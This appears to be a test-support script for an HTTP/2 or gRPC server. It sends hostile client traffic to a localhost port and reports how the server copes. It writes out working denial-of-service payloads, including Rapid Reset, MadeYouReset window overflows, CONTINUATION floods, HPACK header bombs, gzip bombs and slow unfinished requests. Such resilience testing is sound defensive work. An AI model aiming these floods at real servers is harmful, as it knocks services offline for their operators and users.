"""What a hostile HTTP/2 client sends, at full speed.

    python -m support.floods PORT NAME SECONDS

Connects again whenever the server closes, and prints what happened as JSON.
"""

import gzip
import json
import socket
import struct
import sys
import threading
import time

from support.frames import (
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, PREFACE, PRIORITY, RST, SETTINGS,
    WINDOW, block, frame, literal)


def streams(count, *frames):
    """So many streams, for each the frames that functions of its number give."""
    return b"".join(make(2 * n + 1) for n in range(count) for make in frames)


def opened(*more, flags=END_HEADERS):
    header_block = block(*more)
    return lambda stream: frame(HEADERS, flags, stream, header_block)


def pings():
    return frame(PING, payload=bytes(8)) * 50_000


def settings():
    return frame(SETTINGS) * 50_000


def large_settings():
    return frame(SETTINGS, payload=struct.pack(">HI", 3, 100) * 1_000) * 20


def priorities():
    return frame(PRIORITY, stream=3, payload=b"\0\0\0\1\0") * 50_000


def unknown_frames():
    return frame(99) * 50_000


def empty_data():
    return opened()(1) + frame(DATA, stream=1) * 50_000


def window_updates():
    return frame(WINDOW, payload=b"\0\0\0\1") * 50_000


def rapid_resets():
    return streams(20_000, opened(), lambda s: frame(RST, stream=s, payload=b"\0\0\0\x08"))


def overflown_windows():
    """The server resets each stream (MadeYouReset)."""
    return streams(
        5_000, opened(), lambda s: frame(WINDOW, stream=s, payload=b"\x7f\xff\xff\xff"))


def long_bodies():
    """Bodies longer than their content-length: the server resets each stream."""
    return streams(
        5_000, opened((b"content-length", b"1")), lambda s: frame(DATA, stream=s, payload=b"four"))


def continuations():
    return frame(HEADERS, 0, 1, block()) + frame(CONTINUATION, 0, 1, literal(b"x", b"y")) * 50_000


def header_bombs():
    """References to one large field: 60 MB of fields in each 16 kB."""
    large = b"\x40" + b"\x06x-bomb" + b"\x7f" + struct.pack("B", 0x81) + b"\x1d" + b"v" * 3_840
    first = frame(HEADERS, END_HEADERS, 1, block() + large)
    bomb = lambda stream: frame(HEADERS, END_HEADERS, stream, block() + b"\xbe" * 16_000)
    return first + b"".join(bomb(2 * n + 3) for n in range(200))


def stale_streams():
    return opened()(9) + opened()(3)


def unread_answers():
    """Calls whose answers nobody reads."""
    message = b"\0" + struct.pack(">I", 16_000) + bytes(16_000)
    return streams(
        900, opened(), lambda s: frame(DATA, END_STREAM, s, message))


def too_many_streams():
    """Requests that do not end, ten times as many as a connection may have."""
    return streams(10_000, opened())


def unknown_methods():
    missing = block(path=b"/martlet.echo.v1.Echo/None")
    return streams(20_000, lambda s: frame(HEADERS, END_HEADERS | END_STREAM, s, missing))


def gzip_bombs():
    """Messages of 10 kB that grow to 10 MB."""
    packed = gzip.compress(bytes(10_000_000))
    message = b"\1" + struct.pack(">I", len(packed)) + packed
    return streams(
        500, opened((b"grpc-encoding", b"gzip")), lambda s: frame(DATA, END_STREAM, s, message))


def unfinished_requests():
    """Requests of which all but the end is sent."""
    prefix = b"\0" + struct.pack(">I", 4_000_000)
    part = lambda s: frame(DATA, 0, s, bytes(16_384)) * 40
    return streams(200, opened(), lambda s: frame(DATA, 0, s, prefix), part)


def connections():
    return b""


FLOODS = {make.__name__: make for make in (
    pings, settings, large_settings, priorities, unknown_frames, empty_data, window_updates,
    rapid_resets, overflown_windows, long_bodies, continuations, header_bombs, stale_streams,
    too_many_streams, unknown_methods, gzip_bombs, unread_answers, unfinished_requests,
    connections)}
# Those that the server holds within limits, stream by stream; the connection goes on.
LAWFUL = {"connections", "gzip_bombs", "header_bombs", "unfinished_requests", "unknown_methods",
          "unread_answers"}
# Those of them that send once and then hold on to what they have.
_PATIENT = {"unread_answers", "unfinished_requests"}


def _send(connection, name, flood, end):
    """Sends it once; returns when the server has closed, or when there is nothing more to see."""
    if name in _PATIENT:
        connection.sendall(flood)
        time.sleep(max(0, end - time.monotonic()))
        return
    reader = threading.Thread(target=_read_all, args=(connection,))
    reader.start()
    try:
        connection.sendall(flood)
        if name in LAWFUL:
            connection.shutdown(socket.SHUT_WR)
    finally:
        reader.join()


def _read_all(connection):
    try:
        while connection.recv(1 << 16):
            pass
    except OSError:
        pass


def attack(port, name, seconds):
    flood = FLOODS[name]()
    outcome = {"connections": 0, "closed": 0, "bytes": 0}
    end = time.monotonic() + seconds
    while (left := end - time.monotonic()) > 0:
        with socket.create_connection(("127.0.0.1", port)) as connection:
            outcome["connections"] += 1
            connection.settimeout(max(0.1, left))
            try:
                connection.sendall(PREFACE + frame(SETTINGS))
                if not flood:
                    continue
                outcome["bytes"] += len(flood)
                _send(connection, name, flood, end)
            except TimeoutError:
                continue
            except OSError:
                pass
            if name not in LAWFUL and time.monotonic() < end:
                outcome["closed"] += 1
    outcome["cpu_seconds"] = time.process_time()
    return outcome


if __name__ == "__main__":
    print(json.dumps(attack(int(sys.argv[1]), sys.argv[2], float(sys.argv[3]))))
